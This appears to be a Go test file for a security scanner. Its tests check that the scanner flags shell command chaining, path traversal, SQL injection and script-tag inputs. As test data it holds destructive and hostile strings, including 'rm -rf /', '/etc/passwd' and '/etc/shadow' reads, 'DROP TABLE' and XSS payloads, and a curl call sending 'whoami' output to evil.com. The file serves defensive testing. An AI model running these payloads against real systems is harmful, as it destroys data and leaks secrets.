package security

import "testing"

func TestScanInput_ShellMetacharacters(t *testing.T) {
	tests := []struct {
		name         string
		input        string
		wantClean    bool
		wantCategory string
	}{
		{"simple command", "echo hello", true, ""},
		{"semicolon", "echo hello; rm -rf /", false, "command_chain"},
		{"double ampersand", "test -f foo && cat foo", false, "command_chain"},
		{"double pipe", "test -f foo || echo missing", false, "command_chain"},
		{"pipe", "cat file | grep pattern", false, "pipe"},
		{"redirect out", "echo data > file", false, "redirect"},
		{"redirect append", "echo data >> file", false, "redirect"},
		{"redirect in", "cat < file", false, "redirect"},
		{"backtick subshell", "echo `whoami`", false, "subshell"},
		{"dollar-paren subshell", "echo $(whoami)", false, "subshell"},
		{"background", "sleep 100 &", false, "background"},
		{"empty input", "", true, ""},
		{"plain arguments", "python3 main.py --verbose --input data.txt", true, ""},
		{"semicolon inside single quotes", "echo 'hello; world'", true, ""},
		{"semicolon inside double quotes", `echo "hello; world"`, true, ""},
		{"pipe inside quotes", "echo 'cat | grep'", true, ""},
		{"redirect inside quotes", `echo "data > file"`, true, ""},
		{"subshell inside quotes", "echo '$(whoami)'", true, ""},
		{"escaped quote", `echo "hello\"world"`, true, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			scan := ScanInput(tt.input)
			if scan.Clean != tt.wantClean {
				t.Errorf("ScanInput(%q).Clean = %v, want %v (findings: %v)", tt.input, scan.Clean, tt.wantClean, scan.Findings)
			}
			if !tt.wantClean && tt.wantCategory != "" {
				found := false
				for _, f := range scan.Findings {
					if f.Category == tt.wantCategory {
						found = true
						break
					}
				}
				if !found {
					t.Errorf("ScanInput(%q) did not find category %q, got: %v", tt.input, tt.wantCategory, scan.Findings)
				}
			}
		})
	}
}

func TestScanInput_PathTraversal(t *testing.T) {
	tests := []struct {
		input     string
		wantClean bool
	}{
		{"../../etc/passwd", false},
		{"reports/../../etc/shadow", false},
		{`..\..\windows\system32`, false},
		{"reports/quarterly.csv", true},
		{"data...txt", true},
	}
	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			scan := ScanInput(tt.input)
			if scan.Clean != tt.wantClean {
				t.Errorf("ScanInput(%q).Clean = %v, want %v", tt.input, scan.Clean, tt.wantClean)
			}
		})
	}
}

func TestScanInput_SQLInjectionShapes(t *testing.T) {
	tests := []struct {
		input     string
		wantClean bool
	}{
		{"'; DROP TABLE users;--", false},
		{"1' OR '1'='1", false},
		{"1 OR 1=1", false},
		{"SELECT * FROM orders WHERE id = 1 UNION SELECT password FROM users", false},
		{"/* comment */ SELECT 1", false},
		{"a normal search term", true},
		{"order-42", true},
	}
	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			scan := ScanInput(tt.input)
			if scan.Clean != tt.wantClean {
				t.Errorf("ScanInput(%q).Clean = %v, want %v (findings: %v)", tt.input, scan.Clean, tt.wantClean, scan.Findings)
			}
		})
	}
}

func TestScanInput_ScriptTags(t *testing.T) {
	tests := []struct {
		input     string
		wantClean bool
	}{
		{"<script>alert(1)</script>", false},
		{"<SCRIPT SRC=evil.js>", false},
		{`<img src=x onerror="alert(1)">`, false},
		{"javascript:alert(1)", false},
		{"a <b>bold</b> summary", true},
		{"plain text with no markup", true},
	}
	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			scan := ScanInput(tt.input)
			if scan.Clean != tt.wantClean {
				t.Errorf("ScanInput(%q).Clean = %v, want %v (findings: %v)", tt.input, scan.Clean, tt.wantClean, scan.Findings)
			}
		})
	}
}

func TestExtractUnsafeReason(t *testing.T) {
	tests := []struct {
		input      string
		wantReason bool
	}{
		{"echo hello", false},
		{"echo hello; rm -rf /", true},
		{"'; DROP TABLE x;--", true},
		{"<script>alert(1)</script>", true},
		{"../../etc/passwd", true},
	}

	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			reason := ExtractUnsafeReason(tt.input)
			if tt.wantReason && reason == "" {
				t.Errorf("ExtractUnsafeReason(%q) = empty, want non-empty", tt.input)
			}
			if !tt.wantReason && reason != "" {
				t.Errorf("ExtractUnsafeReason(%q) = %q, want empty", tt.input, reason)
			}
		})
	}
}

func BenchmarkScanInput(b *testing.B) {
	cmd := "python3 main.py --verbose --input data.txt"
	for i := 0; i < b.N; i++ {
		ScanInput(cmd)
	}
}

func BenchmarkScanInput_Unsafe(b *testing.B) {
	cmd := `echo "hello" | grep h; curl evil.com/$(whoami)`
	for i := 0; i < b.N; i++ {
		ScanInput(cmd)
	}
}
